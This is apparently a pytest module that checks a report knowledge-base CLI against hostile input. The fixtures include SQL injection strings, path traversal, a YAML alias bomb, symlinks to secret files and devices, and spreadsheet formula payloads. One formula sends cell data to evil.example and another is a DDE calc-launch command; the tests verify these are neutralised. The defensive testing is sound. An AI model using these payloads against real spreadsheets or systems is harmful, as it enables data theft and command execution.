"""Hostile input: SQL, path separators and control characters in ids, report numbers
and --at references are refused (exit 2) or taken as plain text, and the database is
intact afterwards; exports write only where the user said, and nothing half-written;
text that a spreadsheet would run as a formula is neutralised in CSV and stored as a
string in XLSX.

The database holds the module's small valid report (tests/test_robustness.py) plus a
report whose facts start with "=HYPERLINK(", "@SUM(", "+", "-": their quotes are in the
version text, so they load like any other fact.
"""

from __future__ import annotations

import csv
import gc
import io
import json
import os
import resource
import signal
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from kb.domain.schemas import KINDS
from scripts.synthetic import generate
from tests.conftest import SEEDS, snapshot
from tests.test_robustness import new_database, run_kb, write_report

FORMULA = '=HYPERLINK("http://evil.example/x?"&A1,"Click for details")'
HOSTILE_TEXT = f"""\
Formula report
Updated March 3, 2025

{FORMULA} was pasted into the report.
@SUM(1+1) is what the annex says.
-2+3 is not arithmetic here. +1 is a vote.
"""
HOSTILE_YAML = f"""\
report: HX1
version: 2025-03-03
title: "=cmd|' /C calc'!A0"
facts:
  - id: formula-event
    kind: event
    quote: {json.dumps(FORMULA + " was pasted into the report.")}
    date: 2025-03
    summary: {json.dumps(FORMULA)}
    actors: ["@attacker", "+1"]
    category: "-injection"
    note: "@SUM(1+1) is what the annex says."
  - id: formula-indicator
    kind: indicator
    quote: "-2+3 is not arithmetic here."
    name: "-2+3"
    value: -5
    unit: "+1 is a vote."
"""


def write_hostile_report(root: Path) -> Path:
    folder = root / "HX1"
    folder.mkdir(parents=True)
    (folder / "report.yaml").write_text(
        "number: HX1\ntype: Insight\nauthors:\n  - name: '=Mallory'\n", encoding="utf-8"
    )
    (folder / "2025-03-03.txt").write_text(HOSTILE_TEXT, encoding="utf-8")
    (folder / "2025-03-03.yaml").write_text(HOSTILE_YAML, encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def db(backend: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """One database per backend for the module: TS100 and HX1 loaded."""
    root = tmp_path_factory.mktemp("hostile")
    for url in new_database(backend, root):
        for folder in (write_report(root / "seeds"), write_hostile_report(root / "seeds")):
            code, _, err = run_kb("load", str(folder), db=url)
            assert code == 0, err
        yield url


def _no_raw_controls(text: str) -> bool:
    return all(c.isprintable() or c == "\n" for c in text)


# --- ids, report numbers, references -------------------------------------------------

HOSTILE = [
    "'; DROP TABLE facts; --",
    '" OR 1=1 --',
    "merida' OR '1'='1",
    "../x",
    "../../../etc/passwd",
    "/tmp/x",
    "a\x00b",
    "a\x01b\x1b[31mred",
    "\u202emerida",
    "merida\n",
    "%",
    "_",
    "*",
    "",
    "x" * 5000,
]

COMMANDS: list[tuple[str, ...]] = [
    ("show", "{}"),
    ("history", "{}"),
    ("history", "merida", "--report", "{}"),
    ("versions", "{}"),
    ("facts", "{}"),
    ("facts", "--search", "{}", "--format", "json"),
    ("facts", "--at", "{}"),
    ("facts", "--at", "TS100@{}"),
    ("show", "merida", "--at", "{}"),
    ("diff", "{}", "TS100"),
    ("funding", "--fy", "2023", "--account", "{}"),
    ("funding", "--fy", "2023", "--recipient", "{}"),
    ("funding", "--fy", "2023", "--status", "{}"),
    ("funding", "--fy", "2023", "--report", "{}"),
    ("events", "--since", "{}"),
]


@pytest.mark.parametrize("value", HOSTILE, ids=[repr(v)[:24] for v in HOSTILE])
def test_hostile_arguments_are_refused_or_plain_text(db: str, value: str) -> None:
    before = snapshot(db)
    for command in COMMANDS:
        argv = [value if part == "{}" else part.replace("{}", value) for part in command]
        code, out, err = run_kb(*argv, db=db)
        where = f"kb {' '.join(map(repr, argv))} -> exit {code}: {err}"
        assert code in (0, 2), where
        assert "Traceback" not in err and "error:" not in err, where
        assert _no_raw_controls(err), where  # user input is quoted, never echoed raw
        if code == 2:
            assert out == "" and err.startswith("kb: "), where
    assert snapshot(db) == before


@pytest.mark.parametrize("needle", ["%", "_", "'", "--"])
def test_search_text_is_literal(db: str, needle: str) -> None:
    """--search matches the text itself: % and _ are not LIKE wildcards."""
    code, out, err = run_kb("facts", "--search", needle, "--format", "json", db=db)
    assert code == 0, err
    for row in json.loads(out):
        assert needle.lower() in json.dumps(row, ensure_ascii=False).lower(), row


@pytest.mark.parametrize(
    "number",
    ["'; DROP TABLE facts; --", "../x", "IF1\x00", "IF1/../IF2", "if10578", "IF1\n"],
)
def test_hostile_report_numbers_are_refused(db: str, tmp_path: Path, number: str) -> None:
    folder = write_report(tmp_path)
    report = folder / "report.yaml"
    text = report.read_text(encoding="utf-8")
    report.write_text(text.replace("number: TS100", f"number: {json.dumps(number)}"), "utf-8")
    before = snapshot(db)
    code, out, err = run_kb("load", str(folder), db=db)
    assert code == 2, err
    assert out == "" and str(report) in err and "field number" in err, err
    assert _no_raw_controls(err), err
    assert snapshot(db) == before


def test_billion_laughs_is_refused_quickly(db: str, tmp_path: Path) -> None:
    """Nine aliases of aliases expand to 9**9 items: refused, not expanded (or printed)."""
    folder = write_report(tmp_path)
    version = folder / "2024-10-01.yaml"
    lines = ['l0: &l0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"l{i}: &l{i} [" + ",".join([f"*l{i - 1}"] * 9) + "]" for i in range(1, 9)]
    name = "    name: Mérida Initiative\n"
    text = version.read_text(encoding="utf-8").replace(name, name + "    note: *l8\n")
    version.write_text("\n".join(lines) + "\n" + text, encoding="utf-8")

    def too_slow(*_: Any) -> None:
        raise TimeoutError("the load expanded the aliases")

    previous = signal.signal(signal.SIGALRM, too_slow)
    signal.alarm(20)
    try:
        before = snapshot(db)
        code, _, err = run_kb("load", str(folder), "--replace", db=db)
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)
    assert code == 2 and "[yaml-alias]" in err and str(version) in err, err
    assert snapshot(db) == before


# --- search -----------------------------------------------------------------------


def test_a_long_search_is_refused_with_the_flag_named(db: str) -> None:
    before = snapshot(db)
    code, out, err = run_kb("facts", "--search", "x" * 100_000, db=db)
    assert code == 2 and out == "", err
    assert err.startswith("kb: --search is 100,000 characters long; at most 1,000"), err
    assert snapshot(db) == before
    code, _, err = run_kb("facts", "--search", "y" * 1000, db=db)  # at the limit: searched
    assert code == 0, err


UNICODE_TEXT = """\
Unicode report
Updated May 5, 2025

The Mérida Initiative met in İstanbul on the Οδός Ερμού.
Officials of the ÉTAT and the Straße office attended.
"""
UNICODE_YAML = """\
report: UN1
version: 2025-05-05
title: Unicode report
facts:
  - id: istanbul-meeting
    kind: event
    quote: The Mérida Initiative met in İstanbul on the Οδός Ερμού.
    date: 2025-05
    summary: A meeting in İstanbul on the ΟΔΟΣ ΕΡΜΟΥ.
  - id: etat-officials
    kind: event
    quote: Officials of the ÉTAT and the Straße office attended.
    date: 2025-05
    summary: Officials of the État attended.
"""
NEEDLES = ["MÉRIDA", "mérida", "MéRiDa", "ΟΔΌΣ", "οδός", "İSTANBUL", "istanbul", "état",
           "ÉTAT", "STRASSE", "straße", "ΕΡΜΟΥ", "ermou", "Ö"]


def test_case_insensitive_search_agrees_on_both_backends(tmp_path: Path) -> None:
    """Non-ASCII letters fold alike on SQLite and PostgreSQL (before: --search MÉRIDA found
    9 facts of the bundled seeds on PostgreSQL and none on SQLite)."""
    folder = tmp_path / "seeds" / "UN1"
    folder.mkdir(parents=True)
    (folder / "report.yaml").write_text(
        "number: UN1\ntype: Insight\nauthors:\n  - name: Ana Ñúñez\n", encoding="utf-8"
    )
    (folder / "2025-05-05.txt").write_text(UNICODE_TEXT, encoding="utf-8")
    (folder / "2025-05-05.yaml").write_text(UNICODE_YAML, encoding="utf-8")
    found: dict[str, dict[str, list[str]]] = {}
    for backend in ("sqlite", "postgresql"):
        for url in new_database(backend, tmp_path / backend):
            for path in (str(SEEDS / "reports" / "IF10578"), str(folder)):
                code, _, err = run_kb("load", path, db=url)
                assert code == 0, err
            for needle in NEEDLES:
                code, out, err = run_kb("facts", "--search", needle, "--format", "json", db=url)
                assert code == 0, err
                found.setdefault(needle, {})[backend] = sorted(r["id"] for r in json.loads(out))
    for needle, by_backend in found.items():
        assert by_backend["sqlite"] == by_backend["postgresql"], (needle, by_backend)
    assert len(found["MÉRIDA"]["sqlite"]) >= 10  # the seeds' 9 and UN1's meeting
    assert found["MÉRIDA"] == found["mérida"] == found["MéRiDa"]
    assert found["İSTANBUL"]["sqlite"] == found["istanbul"]["sqlite"] == ["istanbul-meeting"]
    assert found["ÉTAT"]["sqlite"] == found["état"]["sqlite"] == ["etat-officials"]
    assert found["ΕΡΜΟΥ"]["sqlite"] == ["istanbul-meeting"]
    assert found["ermou"]["sqlite"] == found["Ö"]["sqlite"] == []


# --- what is read from a seed folder ---------------------------------------------------


@contextmanager
def deadline(seconds: int, what: str) -> Iterator[None]:
    """Fail (instead of hanging the suite) if the block takes longer than ``seconds``."""

    def too_slow(*_: Any) -> None:
        raise TimeoutError(what)

    previous = signal.signal(signal.SIGALRM, too_slow)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def _only_facts_empty(folder: Path) -> Path:
    """The version file with no facts: whatever its text holds, it would load."""
    version = folder / "2024-10-01.yaml"
    head = version.read_text(encoding="utf-8").split("facts:")[0]
    version.write_text(head + "facts: []\n", encoding="utf-8")
    return version


def _load_is_refused(db: str, folder: Path, file: Path, code: str) -> str:
    before = snapshot(db)
    with deadline(30, "the load hung"):
        status, out, err = run_kb("load", str(folder), "--replace", db=db)
    assert status == 2, err
    assert out == "" and "Traceback" not in err, err
    line = next((line for line in err.splitlines() if f"[{code}]" in line), err)
    assert str(file) in line, err
    assert snapshot(db) == before
    return err


def test_a_text_linked_outside_the_folder_is_refused(db: str, tmp_path: Path) -> None:
    """A .txt linked to a file outside the folder (/etc/shadow in the probe) is not read:
    with `facts: []` nothing else would stop the load from storing that file."""
    secret = tmp_path / "secret"
    secret.write_text("root:$6$not-for-the-database:19000:0:99999:7:::\n", encoding="utf-8")
    folder = write_report(tmp_path / "seeds")
    _only_facts_empty(folder)
    text = folder / "2024-10-01.txt"
    text.unlink()
    text.symlink_to(secret)
    err = _load_is_refused(db, folder, text, "outside-folder")
    assert "not-for-the-database" not in err
    code, out, _ = run_kb("facts", "--search", "not-for-the-database", "--format", "json", db=db)
    assert code == 0 and json.loads(out) == []


def test_links_inside_the_folder_being_loaded_are_followed(db: str, tmp_path: Path) -> None:
    """A link is judged against the folder being loaded: a text shared from a sibling
    folder loads with the parent folder and is refused when the report folder alone is."""
    root = tmp_path / "seeds"
    folder = write_report(root)
    shared = root / "shared"
    shared.mkdir()
    text = folder / "2024-10-01.txt"
    text.rename(shared / "TS100.txt")
    text.symlink_to(Path("..") / "shared" / "TS100.txt")
    _load_is_refused(db, folder, text, "outside-folder")
    before = snapshot(db)
    code, _, err = run_kb("load", str(root), db=db)
    assert code == 0 and "nothing to do" in err, err  # the same content as the module's TS100
    assert snapshot(db) == before


@pytest.mark.parametrize("name", ["2025-01-01.yaml", "report.yaml"])
def test_a_fifo_is_refused_not_waited_on(db: str, tmp_path: Path, name: str) -> None:
    folder = write_report(tmp_path / "seeds")
    fifo = folder / name
    fifo.unlink(missing_ok=True)
    os.mkfifo(fifo)
    err = _load_is_refused(db, folder, fifo, "not-a-regular-file")
    assert "FIFO" in err


def test_a_link_to_a_device_is_refused(db: str, tmp_path: Path) -> None:
    folder = write_report(tmp_path / "seeds")
    zero = folder / "2025-01-01.yaml"
    zero.symlink_to("/dev/zero")
    with limited_memory(1 << 30):  # reading /dev/zero would fill it
        _load_is_refused(db, folder, zero, "outside-folder")


@pytest.mark.parametrize("name", ["2024-10-01.txt", "2024-10-01.yaml", "report.yaml"])
def test_files_beyond_the_size_limit_are_refused(db: str, tmp_path: Path, name: str) -> None:
    from kb.ingest.seed_files import MAX_FILE_BYTES

    folder = write_report(tmp_path / "seeds")
    big = folder / name
    original = big.read_bytes()
    # Valid content padded past the limit with a YAML comment (or more text): only the
    # size can refuse it.
    pad = b"#" if name.endswith(".yaml") else b" "
    big.write_bytes(original + b"\n" + pad * (MAX_FILE_BYTES - len(original)))
    err = _load_is_refused(db, folder, big, "too-large")
    assert "20 MB" in err
    # Sparse: 4 GB as far as the file system says, refused before a byte is read.
    with big.open("r+b") as file:
        file.truncate(4 << 30)
    with limited_memory(1 << 30):
        _load_is_refused(db, folder, big, "too-large")


def test_a_file_at_the_size_limit_is_read(tmp_path: Path) -> None:
    """Exactly MAX_FILE_BYTES is allowed, and memory stays in proportion to it."""
    from kb.ingest.seed_files import MAX_FILE_BYTES

    folder = write_report(tmp_path / "seeds")
    text = folder / "2024-10-01.txt"
    original = text.read_bytes()
    line = b"Filler words of a long report, repeated to reach the limit.\n"
    filler = line * ((MAX_FILE_BYTES - len(original)) // len(line))
    text.write_bytes(original + filler + b" " * (MAX_FILE_BYTES - len(original) - len(filler)))
    assert text.stat().st_size == MAX_FILE_BYTES
    from kb.ingest.seed_folders import read_path

    with limited_memory(600 << 20):  # 30 times the file: a load of it took 150 MB in all
        reports, problems = read_path(folder)
    assert problems == [] and len(reports[0].versions[0].text.encode()) == MAX_FILE_BYTES


@contextmanager
def limited_memory(extra: int) -> Iterator[None]:
    """The address space may grow by at most ``extra`` bytes inside the block: a reader
    that reads a device or a sparse file to its end fails with MemoryError."""
    soft, hard = resource.getrlimit(resource.RLIMIT_AS)
    used = _address_space()
    resource.setrlimit(resource.RLIMIT_AS, (used + extra, hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_AS, (soft, hard))


def _address_space() -> int:
    with open("/proc/self/statm", encoding="ascii") as statm:
        return int(statm.read().split()[0]) * os.sysconf("SC_PAGE_SIZE")


# --- where exports write ----------------------------------------------------------


def _tree(root: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(root)): p.read_bytes() if p.is_file() and not p.is_symlink() else b""
        for p in sorted(root.rglob("*"))
    }


def test_export_all_writes_only_inside_the_folder(db: str, tmp_path: Path) -> None:
    outside = tmp_path / "outside.csv"
    outside.write_text("precious\n", encoding="utf-8")
    target = tmp_path / "out"
    target.mkdir()
    # A planted link where an export file goes: replaced by a file, its target untouched.
    (target / "program.csv").symlink_to(outside)
    code, _, err = run_kb("export", "all", "-o", str(target), db=db)
    assert code == 0, err
    assert sorted(p.name for p in target.iterdir()) == sorted(
        [f"{kind}.csv" for kind in KINDS] + ["sources.csv"]
    )
    assert not (target / "program.csv").is_symlink()
    assert outside.read_text(encoding="utf-8") == "precious\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "outside.csv"]

    # A folder that does not exist yet is made, and holds everything.
    code, _, err = run_kb("export", "all", "-o", str(tmp_path / "new" / "deeper"), db=db)
    assert code == 0, err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["new", "out", "outside.csv"]


@pytest.mark.parametrize(
    ("kind", "fmt"),
    [("event", "csv"), ("all", "json"), ("all", "xlsx"), ("appropriation", "xlsx")],
)
def test_single_file_export_to_a_folder_is_refused(
    db: str, tmp_path: Path, kind: str, fmt: str
) -> None:
    folder = tmp_path / "existing"
    folder.mkdir()
    (folder / "keep.txt").write_text("keep", encoding="utf-8")
    before = _tree(tmp_path)
    code, out, err = run_kb("export", kind, "-f", fmt, "-o", str(folder), db=db)
    assert code == 2, err
    assert out == "" and str(folder) in err, err
    assert _tree(tmp_path) == before


def test_exports_refuse_bad_targets(db: str, tmp_path: Path) -> None:
    file = tmp_path / "a-file"
    file.write_text("x", encoding="utf-8")
    before = _tree(tmp_path)
    cases = [
        ("export", "all", "-o", str(file)),  # a folder export onto a file
        ("export", "event", "-o", str(tmp_path / "missing" / "e.csv")),  # no such folder
        ("facts", "-o", str(tmp_path)),  # a read command's -o names a file
        ("export", "all", "-f", "json", "-o", str(file / "x.json")),  # a file as a folder
    ]
    for argv in cases:
        code, out, err = run_kb(*argv, db=db)
        assert code == 2, (argv, err)
        assert out == "" and "Traceback" not in err, (argv, err)
    assert _tree(tmp_path) == before


@contextmanager
def disk_full_after(limit: int) -> Iterator[None]:
    """Writing a file past ``limit`` bytes fails (EFBIG), as on a full disk: a real I/O
    error in the middle of an export, whatever the exporter's code looks like."""
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    previous = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # an error, not a signal
    resource.setrlimit(resource.RLIMIT_FSIZE, (limit, hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
        signal.signal(signal.SIGXFSZ, previous)


LIMIT = 48 * 1024  # above SQLite's 32 KiB -shm file, below every export of big_db


@pytest.fixture(scope="module")
def big_db(backend: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A generated corpus (~800 facts in the latest versions): exports of ~100 KB and more."""
    root = tmp_path_factory.mktemp("big")
    generate(root / "gen", reports=2, versions=1, facts=400, seed=5)
    for url in new_database(backend, root):
        code, _, err = run_kb("load", str(root / "gen"), db=url)
        assert code == 0, err
        yield url


@pytest.mark.parametrize(("kind", "fmt"), [("event", "csv"), ("all", "json"), ("all", "xlsx")])
# An "Exception ignored" traceback from openpyxl's abandoned sheet writers fails the test.
@pytest.mark.filterwarnings("error::pytest.PytestUnraisableExceptionWarning")
def test_failed_export_leaves_no_partial_file(
    big_db: str, tmp_path: Path, kind: str, fmt: str
) -> None:
    """The disk fills up in the middle of the export: exit 1 with the error, the target
    keeps its old content (or stays absent), and no temporary file is left beside it."""
    fresh = tmp_path / f"fresh.{fmt}"
    old = tmp_path / f"old.{fmt}"
    old.write_bytes(b"the previous export\n")
    for target in (fresh, old):
        with disk_full_after(LIMIT):
            code, _, err = run_kb("export", kind, "-f", fmt, "-o", str(target), db=big_db)
        assert code == 1 and "File too large" in err, err
    gc.collect()  # an abandoned openpyxl sheet would complain here
    assert "Exception ignored" not in err and "Traceback" not in err, err
    assert not fresh.exists()
    assert old.read_bytes() == b"the previous export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == [old.name]


def test_failed_folder_export_leaves_no_partial_file(big_db: str, tmp_path: Path) -> None:
    """`export all` to CSV runs out of disk partway: the files are written beside the
    folder and moved in only at the end, so an old export stays whole (not a mix of old
    and new files), a new folder is not made, and no temporary file or folder is left."""
    complete = tmp_path / "complete"
    code, _, err = run_kb("export", "all", "-o", str(complete), db=big_db)
    assert code == 0, err
    old = tmp_path / "old"
    old.mkdir()
    for kind in [*KINDS, "sources"]:
        (old / f"{kind}.csv").write_text(f"old {kind}\n", encoding="utf-8")
    (old / "mine.txt").write_text("the user's own file\n", encoding="utf-8")
    before = _tree(old)
    fresh = tmp_path / "fresh"
    for target in (old, fresh):
        with disk_full_after(LIMIT):
            code, _, err = run_kb("export", "all", "-o", str(target), db=big_db)
        assert code == 1 and "File too large" in err, err
    assert _tree(old) == before
    assert not fresh.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["complete", "old"]
    code, _, err = run_kb("export", "all", "-o", str(old), db=big_db)
    assert code == 0, err
    for path in complete.iterdir():
        assert (old / path.name).read_bytes() == path.read_bytes(), path.name
    assert (old / "mine.txt").exists()


# --- formulas -----------------------------------------------------------------------


def _cells(rows: list[dict[str, str]], fact_id: str) -> dict[str, str]:
    return next(r for r in rows if r["id"] == fact_id)


def test_csv_neutralises_formulas(db: str, tmp_path: Path) -> None:
    target = tmp_path / "event.csv"
    code, _, err = run_kb("export", "event", "-f", "csv", "-o", str(target), db=db)
    assert code == 0, err
    exported = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
    code, out, err = run_kb("facts", "event", "--format", "csv", db=db)
    assert code == 0, err
    listed = list(csv.DictReader(io.StringIO(out)))
    for rows in (exported, listed):
        event = _cells(rows, "formula-event")
        assert event["summary"] == "'" + FORMULA
        assert event["quote"].startswith("'=HYPERLINK(")
        assert event["note"] == "'@SUM(1+1) is what the annex says."
        assert event["category"] == "'-injection"
        assert event["actors"].startswith("'@attacker")
        for row in rows:  # no cell of any row can start a formula
            for value in row.values():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row

    code, out, err = run_kb("facts", "indicator", "--at", "HX1", "--format", "csv", db=db)
    assert code == 0, err
    indicator = _cells(list(csv.DictReader(io.StringIO(out))), "formula-indicator")
    assert indicator["value"] == "-5"  # a number stays a number
    assert indicator["name"] == "'-2+3" and indicator["unit"] == "'+1 is a vote."


def test_xlsx_stores_formulas_as_strings(db: str, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    target = tmp_path / "all.xlsx"
    code, _, err = run_kb("export", "all", "-f", "xlsx", "-o", str(target), db=db)
    assert code == 0, err
    workbook = load_workbook(target)
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str) and cell.value.lstrip("'").startswith("=HYPERLINK("):
                    assert cell.data_type == "s"
                    found.append(cell.value)
    assert FORMULA in found or "'" + FORMULA in found, found


def test_json_keeps_the_text_as_it_is(db: str) -> None:
    """Neutralising is for spreadsheets only: JSON carries the exact text."""
    code, out, err = run_kb("show", "formula-event", "--format", "json", db=db)
    assert code == 0, err
    (fact,) = json.loads(out)
    assert fact["summary"] == FORMULA and fact["note"].startswith("@SUM(")


def test_the_database_is_intact_after_all_this(db: str) -> None:
    code, out, err = run_kb("verify", "--no-seeds", db=db)
    assert code == 0, out + err
    code, out, err = run_kb("reports", "--format", "json", db=db)
    assert code == 0, err
    assert sorted(r["report"] for r in json.loads(out)) == ["HX1", "TS100"]


def test_no_stray_files_in_the_working_directory() -> None:
    """Nothing above wrote into the current directory (exports went where they were told)."""
    stray = [p for p in os.listdir(".") if p.endswith((".csv", ".xlsx", ".tmp"))]
    assert not stray, stray


def test_verify_reads_seed_files_the_same_way(seeded_url: str, seed_copy, kb) -> None:  # type: ignore[no-untyped-def]
    """`kb verify --seeds` reads through the same guard: an annotated comparison that is a
    FIFO and a version text linked outside the folder are named, not waited on or read."""
    folder = seed_copy("IF10578")
    annotated = next(folder.glob("compare-*.annotated.txt"))
    annotated.unlink()
    os.mkfifo(annotated)
    text = folder / "2025-08-14.txt"
    outside = folder.parent.parent / "outside.txt"
    text.rename(outside)
    text.symlink_to(outside)
    before = snapshot(seeded_url)
    with deadline(30, "verify hung"):
        result = kb("verify", "--seeds", str(folder.parent), "--format", "csv", db=seeded_url)
    assert result.code == 2, result.err
    rows = list(csv.DictReader(io.StringIO(result.out)))
    found = {(r["code"], r["file"]) for r in rows}
    assert ("not-a-regular-file", str(annotated)) in found, rows
    assert ("outside-folder", str(text)) in found, rows
    assert snapshot(seeded_url) == before
